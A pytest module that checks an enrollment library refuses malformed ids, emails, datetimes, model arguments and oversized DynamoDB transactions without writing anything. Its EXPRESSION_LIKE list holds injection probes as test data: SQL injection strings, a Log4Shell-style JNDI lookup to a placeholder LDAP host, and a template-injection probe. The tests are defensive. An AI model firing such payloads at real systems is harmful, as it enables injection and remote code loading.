"""Hostile input: a corpus and hypothesis strategies of bad values, on both backends.

Every bad value gets a typed error: ``pydantic.ValidationError`` when a model is built,
an ``enrollkit`` error (``InvalidInput``, ``TransactionError``, ...) when a function is
called; and all items of both tables are the same before and after. Values that look
like DynamoDB expression syntax are not bad: they are stored verbatim. Aware datetimes in
any zone are accepted and stored as the same instant in UTC; naive ones are refused.
"""

from __future__ import annotations

import functools
import unicodedata
import uuid
import warnings
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from boto3.dynamodb.conditions import Attr
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, ValidationError

from enrollkit import (
    AdminOverride,
    Author,
    BulkOutcome,
    BulkResult,
    CancelPolicy,
    Certificate,
    Course,
    DeduplicationConflictError,
    DeduplicationWindow,
    DynamoDBPersistence,
    EnrollkitError,
    Enrollment,
    EnrollmentStatus,
    InMemoryPersistence,
    InvalidInput,
    KeyPair,
    LifecycleEvent,
    Tenant,
    TransactionCanceled,
    TransactionError,
    User,
    Vacancy,
    add_vacancies,
    cancel,
    complete,
    enroll,
    enroll_many,
    lock_hash,
    seat_ledger,
)
from enrollkit.operations.bulk import bulk_enrollment_id
from enrollkit.persistence.base import BasePersistence
from tests.conftest import (
    MOTO_OVERSIZED_UPDATE,
    NOW,
    TENANT,
    engine_of,
    make_course,
    make_enrollment,
    make_user,
)
from tests.support.invariants import STATS, Snapshot, snapshot
from tests.support.lifecycle import schedule
from tests.support.seats import seat_census, seed_order

AUTHOR = Author(id="admin", name="Admin")
COURSE = make_course("course-1", access_period=30)

# -- the corpus -------------------------------------------------------------------------------

BAD_IDS = [
    "",
    "#",
    "a#b",
    "ORG#tenant-1",
    "vacancies#org",
    "a\x00b",
    "a\nb",
    "\t",
    "tab\tinside",
    "del\x7f",
    "nel\x85",
    "\x1b[31mred",
    "x" * 257,
]
BAD_NAMES = ["", "   ", "\n", "a\x00b", "line\nbreak", "bell\x07", "x" * 10_000]
BAD_EMAILS = [
    "",
    "not-an-email",
    "a@b",
    "@example.com",
    "a@",
    "a@@example.com",
    "a b@example.com",
    "a@exam ple.com",
    "a@.com",
    "a@example..com",
    "a@example.com\n",
    "a\x00@example.com",
    "x" * 250 + "@example.com",
]
NAIVE = [datetime(2026, 3, 2, 12, 30), datetime(1970, 1, 1), datetime.max, datetime.min]
BAD_ACCESS_PERIODS: list[Any] = [0, -1, -30, 10**9, 36_501, True, 1.5, "30", None]
BAD_QUANTITIES: list[Any] = [0, -1, 10**9, True, 1.5, "3", None]
BAD_POLICY_DAYS: list[Any] = [0, -1, 10**9, 1.5, "7", True]
EXPRESSION_LIKE = [
    ":v0",
    ":u0",
    "#n0",
    "#pk = :pk",
    "#n0 = :v1 OR attribute_exists(id)",
    "attribute_not_exists(sk)",
    "SET #status = :canceled REMOVE ttl",
    "); DROP TABLE enrollments; --",
    "' OR '1'='1",
    "${jndi:ldap://example.com/a}",
    "size(id) > :v0 AND begins_with(sk, :p)",
    "{{7*7}}",
    "NULL",
]
# Ids must not contain '#': the expression-looking ids are the ones without it.
EXPRESSION_LIKE_IDS = [value for value in EXPRESSION_LIKE if "#" not in value]


def tried(count: int = 1) -> None:
    STATS["hostile.bad_inputs"] += count


# -- helpers ----------------------------------------------------------------------------------


@pytest.fixture
def store(persistence: BasePersistence) -> BasePersistence:
    """Both backends, holding an enrollment (with seat, lock, policy), an order and seats,
    so "nothing changed" is checked against a store with content."""
    persistence.put_item(
        {"id": "order-1", "sk": "0", "create_date": NOW.isoformat()},
        table_name=persistence.order_table_name,
    )
    seats = add_vacancies(
        org_id=TENANT.id,
        order_id="order-1",
        course=COURSE,
        quantity=3,
        persistence_layer=persistence,
        now=NOW,
    )
    enroll(
        Enrollment(id="existing", user=make_user("user-1"), course=COURSE),
        tenant=TENANT,
        persistence_layer=persistence,
        vacancy=seats[0],
        deduplication_window=DeduplicationWindow(offset_days=5),
        cancel_policy=CancelPolicy(days=7),
        now=NOW,
    )
    return persistence


def refused(
    persistence: BasePersistence,
    call: Callable[[], object],
    errors: type[Exception] | tuple[type[Exception], ...] = InvalidInput,
    before: Snapshot | None = None,
) -> Exception:
    """``call`` raises one of ``errors`` (a typed error) and changes no item."""
    before = before if before is not None else snapshot(persistence)
    with pytest.raises(errors) as raised:
        call()
    assert snapshot(persistence) == before
    assert isinstance(raised.value, (EnrollkitError, ValidationError))
    tried()
    return raised.value


def not_built(build: Callable[[], BaseModel]) -> None:
    with pytest.raises(ValidationError):
        build()
    tried()


# -- models refuse bad values at construction ----------------------------------------------------


@pytest.mark.parametrize("bad", BAD_IDS, ids=repr)
def test_a_bad_id_is_refused_by_every_model(bad: str) -> None:
    user, course = make_user(), make_course()
    not_built(lambda: User(id=bad, name="Ana", email="ana@example.com"))
    not_built(lambda: Course(id=bad, name="Course", access_period=30))
    not_built(lambda: Enrollment(id=bad, user=user, course=course))
    not_built(lambda: Tenant(id=bad, name="Acme"))
    not_built(lambda: Author(id=bad, name="Admin"))
    not_built(lambda: Vacancy(org_id=bad, order_id="o", slot_id="s"))
    not_built(lambda: Vacancy(org_id="o", order_id=bad, slot_id="s"))
    not_built(lambda: Vacancy(org_id="o", order_id="o", slot_id=bad))


def test_lock_is_not_an_enrollment_id() -> None:
    not_built(lambda: Enrollment(id="lock", user=make_user(), course=make_course()))


@pytest.mark.parametrize("bad", BAD_NAMES, ids=lambda v: repr(v)[:20])
def test_a_bad_name_is_refused(bad: str) -> None:
    not_built(lambda: User(id="u", name=bad, email="ana@example.com"))
    not_built(lambda: Course(id="c", name=bad, access_period=30))
    not_built(lambda: Tenant(id="t", name=bad))
    not_built(lambda: Author(id="a", name=bad))


@pytest.mark.parametrize("bad", BAD_EMAILS, ids=lambda v: repr(v)[:24])
def test_an_email_that_is_not_an_email_is_refused(bad: str) -> None:
    not_built(lambda: User(id="u", name="Ana", email=bad))


@pytest.mark.parametrize("bad", BAD_ACCESS_PERIODS, ids=repr)
def test_an_access_period_that_is_not_a_positive_whole_number_of_days(bad: Any) -> None:
    not_built(lambda: Course(id="c", name="Course", access_period=bad))


@pytest.mark.parametrize("bad", [-1, -30, 1.5, "5", True, 10**9])
def test_a_window_offset_that_is_not_a_day_count(bad: Any) -> None:
    not_built(lambda: DeduplicationWindow(offset_days=bad))


@pytest.mark.parametrize("bad", BAD_POLICY_DAYS, ids=repr)
def test_a_cancel_policy_of_no_days(bad: Any) -> None:
    not_built(lambda: CancelPolicy(days=bad))


# -- functions refuse bad arguments, and write nothing -------------------------------------------


@pytest.mark.parametrize("naive", NAIVE, ids=str)
def test_a_naive_now_is_refused_by_every_function(store: BasePersistence, naive: datetime) -> None:
    enrollment = make_enrollment("user-2")
    refused(store, lambda: enroll(enrollment, tenant=TENANT, persistence_layer=store, now=naive))
    refused(store, lambda: cancel("existing", author=AUTHOR, persistence_layer=store, now=naive))
    refused(
        store,
        lambda: add_vacancies(
            org_id=TENANT.id,
            order_id="order-1",
            course=COURSE,
            quantity=5,
            persistence_layer=store,
            now=naive,
        ),
    )
    refused(
        store,
        lambda: enroll_many(
            [make_user("user-3")],
            course=COURSE,
            tenant=TENANT,
            order_id="order-1",
            persistence_layer=store,
            now=naive,
        ),
    )


# Aware instants no date arithmetic can take: before the Unix epoch (a TTL is epoch
# seconds) or from the year 9000 (the longest course then ends past datetime's 9999).
EXTREME_NOWS = [
    datetime.min.replace(tzinfo=timezone.utc),
    datetime.min.replace(tzinfo=timezone(timedelta(hours=5))),  # before year 1 in UTC
    datetime(1969, 12, 31, 23, 59, 59, 999999, tzinfo=timezone.utc),
    datetime(9000, 1, 1, tzinfo=timezone.utc),
    datetime(8999, 12, 31, 23, 0, tzinfo=timezone(timedelta(hours=-2))),  # 9000 in UTC
    datetime.max.replace(tzinfo=timezone.utc),
    datetime.max.replace(tzinfo=timezone(timedelta(hours=-5))),  # after year 9999 in UTC
]
fixed_offsets = st.builds(
    timezone,
    st.timedeltas(
        min_value=timedelta(hours=-23, minutes=59), max_value=timedelta(hours=23, minutes=59)
    ),
)
# A whole day from the edges: no offset (under a day) brings them back into the range.
extreme_nows = st.builds(
    lambda naive, zone: naive.replace(tzinfo=zone),
    st.one_of(
        st.datetimes(max_value=datetime(1969, 12, 30)),
        st.datetimes(min_value=datetime(9000, 1, 2)),
    ),
    fixed_offsets,
)


def every_operation_at(store: BasePersistence, now: datetime) -> list[Callable[[], object]]:
    """Each public function that takes ``now``, with every date it computes in play (a
    window, a cancel policy, a seat, the longest course)."""
    longest = make_course("course-long", access_period=36_500)
    return [
        lambda: enroll(
            Enrollment(id="extreme", user=make_user("user-9"), course=longest),
            tenant=TENANT,
            persistence_layer=store,
            deduplication_window=DeduplicationWindow(offset_days=5),
            cancel_policy=CancelPolicy(days=36_500),
            now=now,
        ),
        lambda: cancel("existing", author=AUTHOR, persistence_layer=store, now=now),
        lambda: add_vacancies(
            org_id=TENANT.id,
            order_id="order-1",
            course=longest,
            quantity=2,
            persistence_layer=store,
            now=now,
        ),
        lambda: enroll_many(
            [make_user("user-8")],
            course=COURSE,
            tenant=TENANT,
            order_id="order-1",
            persistence_layer=store,
            now=now,
        ),
        *([lambda: store.sweep_expired(now)] if isinstance(store, InMemoryPersistence) else []),
    ]


@pytest.mark.parametrize("now", EXTREME_NOWS, ids=str)
def test_an_extreme_aware_now_is_invalid_input_everywhere(
    store: BasePersistence, now: datetime
) -> None:
    for call in every_operation_at(store, now):
        refused(store, call)


def test_generated_extreme_nows_are_invalid_input_never_overflow(store: BasePersistence) -> None:
    before = snapshot(store)

    @_examples(store, 60)
    @given(now=extreme_nows)
    def check(now: datetime) -> None:
        for call in every_operation_at(store, now):
            refused(store, call, before=before)

    check()


@pytest.mark.parametrize(
    "now",
    [
        datetime(1970, 1, 1, tzinfo=timezone.utc),
        datetime(8999, 12, 31, 23, 59, 59, 999999, tzinfo=timezone.utc),
        datetime(9000, 1, 1, 1, 0, tzinfo=timezone(timedelta(hours=2))),  # 8999 in UTC
    ],
    ids=str,
)
def test_the_edges_of_the_accepted_range_work(store: BasePersistence, now: datetime) -> None:
    enroll_at_edge, *_ = every_operation_at(store, now)
    enroll_at_edge()
    assert store.get_item(KeyPair("extreme", "0")) is not None


@pytest.mark.parametrize(
    "now",
    ["2026-03-02T12:30:00+00:00", 1_772_454_615, 0.5, pytest.param(object(), id="object")],
)
def test_a_now_that_is_not_a_datetime_is_refused(store: BasePersistence, now: Any) -> None:
    refused(
        store,
        lambda: enroll(make_enrollment("user-2"), tenant=TENANT, persistence_layer=store, now=now),
    )
    refused(store, lambda: cancel("existing", author=AUTHOR, persistence_layer=store, now=now))


@pytest.mark.parametrize("bad", [*BAD_IDS, 42, None, b"bytes"], ids=repr)
def test_a_bad_id_argument_is_refused(store: BasePersistence, bad: Any) -> None:
    refused(store, lambda: cancel(bad, author=AUTHOR, persistence_layer=store, now=NOW))
    if bad is not None:  # tenant_id=None means "any tenant"
        refused(
            store,
            lambda: cancel(
                "existing", author=AUTHOR, persistence_layer=store, tenant_id=bad, now=NOW
            ),
        )
    for arguments in ({"org_id": bad, "order_id": "order-1"}, {"org_id": "o", "order_id": bad}):
        refused(
            store,
            lambda arguments=arguments: add_vacancies(  # type: ignore[misc]
                **arguments, course=COURSE, quantity=1, persistence_layer=store, now=NOW
            ),
        )
    refused(store, lambda: seat_ledger(order_id=bad, persistence_layer=store))


def test_lock_is_refused_as_an_enrollment_id_argument(store: BasePersistence) -> None:
    """Regression: cancel('lock') read the whole lock partition (every lock item, page by
    page) before answering EnrollmentNotFound. 'lock' is no enrollment id: InvalidInput,
    before any read."""
    reads: list[str] = []
    query = store.query
    store.query = lambda pk, **kw: reads.append(pk) or query(pk, **kw)  # type: ignore[method-assign]
    refused(store, lambda: cancel("lock", author=AUTHOR, persistence_layer=store, now=NOW))
    assert reads == []


@pytest.mark.parametrize("bad", BAD_QUANTITIES, ids=repr)
def test_a_seat_quantity_that_is_not_a_count(store: BasePersistence, bad: Any) -> None:
    refused(
        store,
        lambda: add_vacancies(
            org_id=TENANT.id,
            order_id="order-1",
            course=COURSE,
            quantity=bad,
            persistence_layer=store,
            now=NOW,
        ),
    )


@pytest.mark.parametrize("offset", [30, 31, 365, 36_500])
def test_a_window_not_shorter_than_the_access_period(store: BasePersistence, offset: int) -> None:
    refused(
        store,
        lambda: enroll(
            make_enrollment("user-2", access_period=30),
            tenant=TENANT,
            persistence_layer=store,
            deduplication_window=DeduplicationWindow(offset_days=offset),
            now=NOW,
        ),
    )


WRONG_TYPES: list[Any] = ["text", {"id": "x"}, 42, make_user()]


@pytest.mark.parametrize(
    ("argument", "bad"),
    [("enrollment", None), ("tenant", None)]  # None means "not given" only for the others
    + [
        (argument, bad)
        for argument in ("enrollment", "tenant", "vacancy", "deduplication_window", "cancel_policy")
        for bad in WRONG_TYPES
    ],
    ids=repr,
)
def test_an_argument_of_the_wrong_type(store: BasePersistence, argument: str, bad: Any) -> None:
    arguments: dict[str, Any] = {"enrollment": make_enrollment("user-2"), "tenant": TENANT}
    arguments[argument] = bad
    refused(
        store,
        lambda: enroll(  # type: ignore[misc]
            arguments.pop("enrollment"), **arguments, persistence_layer=store, now=NOW
        ),
    )


@pytest.mark.parametrize(
    "build",
    [
        lambda: make_enrollment().model_copy(update={"id": "lock"}),
        lambda: make_enrollment().model_copy(update={"id": "a#b"}),
        lambda: make_enrollment().model_copy(
            update={"user": make_user().model_copy(update={"id": "u#1"})}
        ),
        lambda: make_enrollment().model_copy(
            update={"course": make_course().model_copy(update={"access_period": 0})}
        ),
        lambda: Enrollment.model_construct(id="x\x00", user=make_user(), course=make_course()),
        lambda: make_enrollment().model_copy(
            update={"user": make_user().model_copy(update={"email": "nope"})}
        ),
    ],
    ids=["lock-id", "hash-id", "hash-user", "zero-days", "constructed", "bad-email"],
)
def test_a_model_that_skipped_validation_is_refused(
    store: BasePersistence, build: Callable[[], Enrollment]
) -> None:
    """Regression: model_copy(update=...) and model_construct() skip pydantic's validation;
    enroll() wrote such an enrollment as given (an enrollment with id 'lock' put its items
    in the lock partition). Operations now validate their model arguments again."""
    refused(store, lambda: enroll(build(), tenant=TENANT, persistence_layer=store, now=NOW))
    bad_tenant = TENANT.model_copy(update={"id": "t#1"})
    refused(
        store,
        lambda: enroll(
            make_enrollment("user-2"), tenant=bad_tenant, persistence_layer=store, now=NOW
        ),
    )
    bad_author = AUTHOR.model_copy(update={"name": "\x00"})
    refused(store, lambda: cancel("existing", author=bad_author, persistence_layer=store, now=NOW))


def _changed_in_place(model: BaseModel, field: str, value: object) -> BaseModel:
    object.__setattr__(model, field, value)  # past frozen=True, as hostile code could
    return model


@pytest.mark.parametrize(
    "build",
    [
        # Validated itself, but holding a model that skipped validation.
        lambda: Enrollment(
            user=User.model_construct(id="u#1", name="U", email="u@example.com"),
            course=make_course(),
        ),
        lambda: Enrollment(user=make_user(), course=make_course().model_copy(update={"id": "c#1"})),
        # A constructed model's bad field in no key (nothing else would catch it).
        lambda: Enrollment(
            user=User.model_construct(id="u-1", name="\x00", email="u@example.com"),
            course=make_course(),
        ),
        lambda: Enrollment(
            user=make_user(),
            course=Course.model_construct(id="c-1", name="C", access_period=0),
        ),
        # Validated, then changed in place.
        lambda: _changed_in_place(make_enrollment(), "id", "lock"),
        lambda: Enrollment(user=_changed_in_place(make_user(), "id", "u#2"), course=make_course()),
    ],
    ids=[
        "constructed-user",
        "copied-course",
        "constructed-user-name",
        "constructed-course-period",
        "changed-id",
        "changed-user-id",
    ],
)
def test_a_validated_model_is_trusted_only_as_validated(
    store: BasePersistence, build: Callable[[], Enrollment]
) -> None:
    """Operations skip validating a model a second time only when it, and every model in it,
    is exactly as pydantic validated it."""
    refused(store, lambda: enroll(build(), tenant=TENANT, persistence_layer=store, now=NOW))
    tenant = Tenant(id="t-1", name="T")
    refused(
        store,
        lambda: enroll(
            make_enrollment("user-3"),
            tenant=_changed_in_place(tenant, "id", "t#1"),  # type: ignore[arg-type]
            persistence_layer=store,
            now=NOW,
        ),
    )


_DECOMPOSED = unicodedata.normalize("NFD", "josé")  # valid, stored as NFC "josé"


@pytest.mark.parametrize(
    "build",
    [
        lambda: Enrollment.model_construct(
            id="enr-2",
            user=User.model_construct(id=_DECOMPOSED, name="J", email="j@example.com"),
            course=make_course(),
            status=EnrollmentStatus.PENDING,
            progress=0,
        ),
        lambda: Enrollment(
            id="enr-2",
            user=_changed_in_place(make_user(), "id", _DECOMPOSED),
            course=make_course(),
        ),
    ],
    ids=["constructed", "changed-in-place"],
)
def test_a_model_validated_again_is_written_as_validated(
    persistence: BasePersistence, build: Callable[[], Enrollment]
) -> None:
    """Regression: enroll() validated such a model again but then wrote the model as given,
    not as validated: a user id spelled in NFD kept that spelling, in the enrollment and in
    its lock, so the same user took a second lock on the same course."""
    tenant = _changed_in_place(Tenant(id="t-1", name="T"), "id", unicodedata.normalize("NFD", "té"))
    window = DeduplicationWindow(offset_days=1)
    enroll(
        build(),
        tenant=tenant,  # type: ignore[arg-type]
        persistence_layer=persistence,
        deduplication_window=window,
        now=NOW,
    )
    root = persistence.get_item(KeyPair("enr-2", "0"))
    assert root is not None
    assert root["user"]["id"] == "josé" and root["metadata__tenant_id"] == "té"
    assert [lock["sk"] for lock in persistence.query("lock")] == [lock_hash("josé", "course-1")]
    twin = Enrollment(user=make_user("josé"), course=make_course())
    with pytest.raises(DeduplicationConflictError):
        enroll(twin, tenant=TENANT, persistence_layer=persistence, now=NOW)


# Each operation writes its model arguments as validated (NFC ids), as enroll() does: the
# same call with validated models then finds everything written (nothing added) and the
# items hold what that call writes.
_CHOSEN = "josé"
_CHOSEN_COURSE = Course(id=_CHOSEN, name="Cours", access_period=30)
_ACCENTED_TENANT = Tenant(id="té", name="T")


@pytest.mark.parametrize(
    "build",
    [
        lambda: Course.model_construct(id=_DECOMPOSED, name="Cours", access_period=30),
        lambda: _CHOSEN_COURSE.model_copy(update={"id": _DECOMPOSED}),
        lambda: _changed_in_place(
            Course(id="c-1", name="Cours", access_period=30), "id", _DECOMPOSED
        ),
    ],
    ids=["constructed", "copied", "changed-in-place"],
)
def test_add_vacancies_writes_the_course_as_validated(
    persistence: BasePersistence, build: Callable[[], Course]
) -> None:
    """Regression: add_vacancies() validated such a course again but wrote the course as
    given: a course id in NFD was stored in NFD and derived other slot ids, so the same
    call with the validated course added every seat a second time."""
    seed_order(persistence, "order-1")
    call = functools.partial(
        add_vacancies,
        org_id=TENANT.id,
        order_id="order-1",
        quantity=2,
        persistence_layer=persistence,
        now=NOW,
    )
    seats = call(course=build())
    written = snapshot(persistence)
    assert call(course=_CHOSEN_COURSE) == seats
    assert snapshot(persistence) == written
    seat_items = persistence.query(f"vacancies#{TENANT.id}")
    assert [item["course"] for item in seat_items] == [_CHOSEN_COURSE.model_dump()] * 2
    records = seat_census(persistence, "order-1").generated.values()
    assert [record["course_id"] for record in records] == [_CHOSEN] * 2


def _enroll_many_arguments(constructed: str) -> dict[str, Any]:
    """enroll_many()'s arguments with ``constructed`` (an argument) built with
    model_construct() and its id in NFD; the others validated."""
    user = User.model_construct(**{**make_user(_CHOSEN).model_dump(), "id": _DECOMPOSED})
    return {
        "users": [user if constructed == "user" else make_user(_CHOSEN)],
        "course": (
            Course.model_construct(id=_DECOMPOSED, name="Cours", access_period=30)
            if constructed == "course"
            else _CHOSEN_COURSE
        ),
        "tenant": (
            Tenant.model_construct(id=unicodedata.normalize("NFD", "té"), name="T")
            if constructed == "tenant"
            else _ACCENTED_TENANT
        ),
    }


@pytest.mark.parametrize("constructed", ["course", "tenant", "user"])
def test_enroll_many_uses_the_models_as_validated(
    persistence: BasePersistence, constructed: str
) -> None:
    """Regression: enroll_many() validated such a course and tenant again but used them as
    given, and used a user's id before enroll() validated the user: ids in NFD derived
    other enrollment ids (a re-run with the validated models enrolled the user a second
    time, on a second seat), and a course id in NFD matched none of its seats (NO_SEAT)."""
    seed_order(persistence, "order-1")
    add_vacancies(
        org_id="té",
        order_id="order-1",
        course=_CHOSEN_COURSE,
        quantity=2,
        persistence_layer=persistence,
        now=NOW,
    )
    call = functools.partial(
        enroll_many, order_id="order-1", persistence_layer=persistence, now=NOW
    )
    expected_id = bulk_enrollment_id("té", "order-1", _CHOSEN, _CHOSEN)

    [result] = call(**_enroll_many_arguments(constructed))
    assert result == BulkResult(_CHOSEN, BulkOutcome.ENROLLED, expected_id)
    root = persistence.get_item(KeyPair(expected_id, "0"))
    assert root is not None
    assert (root["user"]["id"], root["course"]["id"], root["metadata__tenant_id"]) == (
        _CHOSEN,
        _CHOSEN,
        "té",
    )
    written = snapshot(persistence)
    [again] = call(users=[make_user(_CHOSEN)], course=_CHOSEN_COURSE, tenant=_ACCENTED_TENANT)
    assert again == BulkResult(_CHOSEN, BulkOutcome.ALREADY_ENROLLED, expected_id)
    assert snapshot(persistence) == written
    assert len(seat_census(persistence, "order-1").available) == 1


def test_enroll_many_counts_a_user_listed_in_both_spellings_once(
    persistence: BasePersistence,
) -> None:
    """A user listed in NFD (a model that skipped validation) and in NFC is one user: one
    enrollment, one seat. A listed user that is not valid is INVALID, without a seat."""
    seed_order(persistence, "order-1")
    add_vacancies(
        org_id=TENANT.id,
        order_id="order-1",
        course=COURSE,
        quantity=3,
        persistence_layer=persistence,
        now=NOW,
    )
    decomposed = make_user(_CHOSEN).model_copy(update={"id": _DECOMPOSED})
    invalid = User.model_construct(id="u#1", name="U", email="u@example.com")

    results = enroll_many(
        [decomposed, make_user(_CHOSEN), invalid],
        course=COURSE,
        tenant=TENANT,
        order_id="order-1",
        persistence_layer=persistence,
        now=NOW,
    )

    assert [(r.user_id, r.outcome) for r in results] == [
        (_CHOSEN, BulkOutcome.ENROLLED),
        (_CHOSEN, BulkOutcome.ALREADY_ENROLLED),
        ("u#1", BulkOutcome.INVALID),
    ]
    assert results[1].enrollment_id == results[0].enrollment_id
    assert results[2].enrollment_id is None and "must not contain '#'" in str(results[2].detail)
    assert len(seat_census(persistence, "order-1").available) == 2


def _enrolled_twice(persistence: BasePersistence) -> None:
    """Enrollments "enr-a" and "enr-b", alike: one for the call given a model that skipped
    validation, one for the same call given the validated model."""
    for enrollment_id in ("enr-a", "enr-b"):
        enroll(
            Enrollment(id=enrollment_id, user=make_user(enrollment_id), course=COURSE),
            tenant=TENANT,
            persistence_layer=persistence,
            cancel_policy=CancelPolicy(),
            now=NOW,
        )


def _written_alike(persistence: BasePersistence, sk: str, ignored: set[str]) -> dict[str, Any]:
    """The ``sk`` items of "enr-a" and "enr-b" are the same but for their keys and
    ``ignored``: that of enr-a."""
    a, b = (persistence.get_item(KeyPair(pk, sk)) for pk in ("enr-a", "enr-b"))
    assert a is not None and b is not None
    assert {k: v for k, v in a.items() if k not in {"id", *ignored}} == {
        k: v for k, v in b.items() if k not in {"id", *ignored}
    }
    return a


@pytest.mark.parametrize(
    ("given", "validated"),
    [
        (
            {"author": Author.model_construct(id=_DECOMPOSED, name="Admin")},
            {"author": Author(id=_CHOSEN, name="Admin")},
        ),
        (
            {"author": AUTHOR.model_copy(update={"id": _DECOMPOSED})},
            {"author": Author(id=_CHOSEN, name="Admin")},
        ),
        # A reason of bytes, which validation turns into text.
        (
            {"author": AUTHOR, "override": AdminOverride.model_construct(reason=b"audit")},  # type: ignore[arg-type]
            {"author": AUTHOR, "override": AdminOverride(reason="audit")},
        ),
    ],
    ids=["constructed-author", "copied-author", "constructed-override"],
)
def test_cancel_records_the_author_and_override_as_validated(
    persistence: BasePersistence, given: dict[str, Any], validated: dict[str, Any]
) -> None:
    """Regression: cancel() validated such an author or override again but recorded it as
    given: an author id in NFD was stored in NFD (the audit trail named another spelling
    of the administrator), and a reason of the wrong type made pydantic warn as it wrote
    the record (``PydanticSerializationUnexpectedValue``)."""
    _enrolled_twice(persistence)
    with warnings.catch_warnings(record=True) as warned:
        warnings.simplefilter("always")
        cancel("enr-a", **given, persistence_layer=persistence, now=NOW)
    assert [str(warning.message) for warning in warned] == []
    cancel("enr-b", **validated, persistence_layer=persistence, now=NOW)
    record = _written_alike(persistence, "canceled_date", {"request_token"})
    assert record["author"] == validated["author"].model_dump()


@pytest.mark.parametrize(
    "build",
    [
        lambda expires: Certificate.model_construct(expires_at=expires.isoformat()),
        lambda expires: Certificate().model_copy(update={"expires_at": expires.isoformat()}),
    ],
    ids=["constructed", "copied"],
)
def test_complete_writes_the_certificate_as_validated(
    persistence: BasePersistence, build: Callable[[datetime], Certificate]
) -> None:
    """Regression: complete() validated such a certificate again but used it as given: an
    expiry as ISO text, which validation turns into a datetime, was refused as not a
    datetime (where ``Certificate(expires_at=text)`` is accepted)."""
    _enrolled_twice(persistence)
    expires = (NOW + timedelta(days=400)).astimezone(timezone(timedelta(hours=2)))
    at = NOW + timedelta(days=1)
    given = complete("enr-a", persistence_layer=persistence, certificate=build(expires), now=at)
    validated = complete(
        "enr-b", persistence_layer=persistence, certificate=Certificate(expires_at=expires), now=at
    )
    assert given.archive_at == validated.archive_at == expires
    certificate = _written_alike(persistence, "certificate", set())
    assert certificate["expires_at"] == expires.astimezone(timezone.utc).isoformat()
    assert schedule(persistence, "enr-a") == schedule(persistence, "enr-b")
    assert LifecycleEvent.COURSE_ARCHIVED in schedule(persistence, "enr-a")


@pytest.mark.parametrize(
    "call",
    [
        lambda store: enroll_many(
            [make_user("user-2")],
            course=Course.model_construct(id="c#1", name="C", access_period=30),
            tenant=TENANT,
            order_id="order-1",
            persistence_layer=store,
            now=NOW,
        ),
        lambda store: enroll_many(
            [make_user("user-2")],
            course=COURSE,
            tenant=TENANT.model_copy(update={"id": "t#1"}),
            order_id="order-1",
            persistence_layer=store,
            now=NOW,
        ),
        lambda store: add_vacancies(
            org_id=TENANT.id,
            order_id="order-1",
            course=COURSE.model_copy(update={"access_period": 0}),
            quantity=1,
            persistence_layer=store,
            now=NOW,
        ),
        lambda store: cancel(
            "existing",
            author=AUTHOR,
            override=AdminOverride.model_construct(reason=" "),
            persistence_layer=store,
            now=NOW,
        ),
        lambda store: complete(
            "existing",
            persistence_layer=store,
            certificate=Certificate.model_construct(expires_at="not a date"),  # type: ignore[arg-type]
            now=NOW,
        ),
    ],
    ids=[
        "enroll_many-course",
        "enroll_many-tenant",
        "add_vacancies-course",
        "cancel-override",
        "complete-certificate",
    ],
)
def test_an_argument_model_invalid_after_skipping_validation_is_refused(
    store: BasePersistence, call: Callable[[BasePersistence], object]
) -> None:
    """The other operations refuse, before writing anything, a model argument that skipped
    validation and is not valid (enroll() and cancel()'s author: above)."""
    refused(store, lambda: call(store))


# -- the transaction builder refuses what DynamoDB would ------------------------------------------


def _in_transaction(store: BasePersistence, build: Callable[[Any], None]) -> Callable[[], None]:
    def run() -> None:
        with store.transact_writer() as transaction:
            transaction.put(item={"id": "first", "sk": "0", "note": "written only with the rest"})
            build(transaction)

    return run


OVERSIZED = [
    (
        "item-over-400KB",
        lambda t: t.put(item={"id": "big", "sk": "0", "blob": "x" * (400 * 1024)}),
    ),
    (
        "many-attributes-over-400KB",
        lambda t: t.put(item={"id": "big", "sk": "0", **{f"a{n}": "y" * 1024 for n in range(410)}}),
    ),
    (
        "request-over-4MB",
        lambda t: [
            t.put(item={"id": f"big-{n}", "sk": "0", "blob": "x" * 390_000}) for n in range(11)
        ],
    ),
    (
        "partition-key-over-2KB",
        lambda t: t.put(item={"id": "k" * 2049, "sk": "0"}),
    ),
    (
        "sort-key-over-1KB",
        lambda t: t.delete(key=KeyPair(pk="existing", sk="s" * 1025)),
    ),
    (
        "update-growing-an-item-past-400KB",
        lambda t: t.update(key=KeyPair(pk="padded", sk="0"), set={"more": "y" * 200_000}),
    ),
    (
        "over-100-operations",
        lambda t: [t.put(item={"id": f"n-{n}", "sk": "0"}) for n in range(100)],
    ),
    (
        "two-operations-on-one-item",
        lambda t: [
            t.put(item={"id": "twice", "sk": "0"}),
            t.delete(key=KeyPair(pk="twice", sk="0")),
        ],
    ),
]


@pytest.mark.parametrize("build", [b for _, b in OVERSIZED], ids=[n for n, _ in OVERSIZED])
def test_a_transaction_dynamodb_would_refuse_writes_nothing(
    store: BasePersistence, build: Callable[[Any], None], request: pytest.FixtureRequest
) -> None:
    store.put_item({"id": "padded", "sk": "0", "blob": "p" * 300_000})
    # The builder refuses each before sending; but only DynamoDB knows the size of the
    # stored item an update grows, and it cancels the transaction (tests/test_builder.py).
    grows_stored_item = "update-growing" in request.node.callspec.id
    if grows_stored_item and engine_of(store) == "moto":
        request.applymarker(pytest.mark.xfail(strict=True, reason=MOTO_OVERSIZED_UPDATE))
    expected = TransactionCanceled if grows_stored_item else TransactionError
    refused(store, _in_transaction(store, build), expected)


# -- expression-looking values are data, stored verbatim ------------------------------------------


def _enroll_verbatim(persistence: BasePersistence, value: str, id_value: str) -> None:
    """Enroll and cancel with ``value`` in every free-text field and ``id_value`` in the ids;
    every stored item must carry them unchanged."""
    suffix = uuid.uuid4().hex[:6]
    user = User(id=f"{id_value}{suffix}", name=value, email="a.b@example.com")
    course = Course(id=f"{id_value}c{suffix}", name=value, access_period=40)
    tenant = Tenant(id=f"{id_value}t{suffix}", name=value)
    enrollment = Enrollment(id=f"{id_value}e{suffix}", user=user, course=course)
    author = Author(id=f"{id_value}a{suffix}", name=value)
    enroll(
        enrollment,
        tenant=tenant,
        persistence_layer=persistence,
        deduplication_window=DeduplicationWindow(offset_days=1),
        cancel_policy=CancelPolicy(),
        now=NOW,
    )
    items = {item["sk"]: item for item in persistence.query(enrollment.id)}
    assert items["0"]["user"] == {"id": user.id, "name": value, "email": "a.b@example.com"}
    assert items["0"]["course"]["name"] == value
    assert items["0"]["metadata__tenant_id"] == tenant.id
    assert items["0"]["metadata__related_ids"] == {tenant.id, user.id}
